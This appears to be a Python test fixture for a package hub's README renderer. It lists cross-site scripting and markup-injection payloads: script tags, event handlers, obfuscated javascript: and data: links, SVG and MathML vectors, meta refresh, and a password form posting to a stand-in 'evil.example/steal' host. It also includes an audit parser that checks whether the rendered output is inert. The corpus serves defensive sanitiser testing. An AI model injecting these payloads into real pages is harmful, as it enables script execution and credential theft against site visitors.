"""READMEs written to attack the page that shows them: each must render inert.

Each entry is (why, text). They cover what the issue lists (scripts, event handlers,
javascript:/data: links, frames, forms, CSS tricks) and what gets past naive filters:
mixed case, entities, whitespace inside a scheme, autolinks, reference links, SVG and MathML,
`<base>`, meta refresh, and markup split across Markdown constructs.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

from pysetl_hub_server.web.readme import TAGS

MARKDOWN: list[tuple[str, str]] = [
    ("script tag", "<script>window.__pwned = 1</script>"),
    ("script in caps", "<SCRIPT SRC=/static/js/hub.js></SCRIPT>"),
    ("event handler on an image", '<img src="x" onerror="window.__pwned=1">'),
    ("event handler on a div", '<div onmouseover="window.__pwned=1">hover me</div>'),
    ("javascript: link", "[click](javascript:window.__pwned=1)"),
    ("JavaScript: in mixed case", '<a href="JaVaScRiPt:window.__pwned=1">x</a>'),
    ("entity-encoded scheme", '<a href="&#106;avascript:window.__pwned=1">x</a>'),
    ("tab inside the scheme", '<a href="java\tscript:window.__pwned=1">x</a>'),
    ("data: link", "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("autolink to javascript:", "<javascript:window.__pwned=1>"),
    ("reference link", "[r][1]\n\n[1]: javascript:window.__pwned=1"),
    ("iframe", '<iframe src="https://example.org/"></iframe>'),
    ("object and embed", '<object data="x.swf"></object><embed src="x.swf">'),
    (
        "form",
        '<form action="https://evil.example/steal"><input name="password">'
        "<button>Go</button></form>",
    ),
    ("style tag", "<style>body { display: none }</style>"),
    ("style attribute overlay", '<div style="position:fixed;inset:0;background:red">overlay</div>'),
    ("svg with onload", '<svg onload="window.__pwned=1"><circle r="10"/></svg>'),
    ("svg script", "<svg><script>window.__pwned=1</script></svg>"),
    ("math with href", '<math><mi xlink:href="javascript:window.__pwned=1">x</mi></math>'),
    ("base tag", '<base href="https://evil.example/">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("remote image (a request leaving the hub)", "![tracker](https://evil.example/pixel.png)"),
    (
        "template and noscript",
        "<template><script>x</script></template><noscript><p>n</p></noscript>",
    ),
    ("comment hiding markup", "<!-- <script>window.__pwned=1</script> -->"),
    (
        "unclosed attribute",
        '<a href="https://ok.example/" title="x onmouseover=window.__pwned=1>y</a>',
    ),
]

RST = (
    "Hostile\n=======\n\n"
    "`bad <javascript:window.__pwned=1>`_ and `ok <https://example.org/>`_\n\n"
    ".. image:: https://evil.example/pixel.png\n"
)
# docutils' raw directive is turned off (as on PyPI): such a README fails to render as reST and
# is shown as the text it is.
RST_RAW = "Hostile\n=======\n\n.. raw:: html\n\n   <script>window.__pwned = 1</script>\n"

ALLOWED_SCHEMES = ("http", "https", "mailto")


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "src", "srcset", "action", "formaction"):
                self.found.append(f"attribute {name} on <{tag}>")
            if name == "href" and value is not None:
                scheme = urlsplit(value.strip()).scheme.lower()
                if scheme and scheme not in ALLOWED_SCHEMES:
                    self.found.append(f"href scheme {scheme!r}")


def dangers(html: str) -> list[str]:
    """What in `html` could run, load or post something: the parsed tags and attributes, not
    the text (a README may well *mention* `javascript:`)."""
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit.found


def corpus_markdown() -> str:
    """All of them in one README, under headings, for the browser test."""
    parts = ["# Hostile README\n", "A component whose README attacks its page.\n"]
    for why, text in MARKDOWN:
        parts.append(f"\n## {why}\n\n{text}\n")
    return "".join(parts)
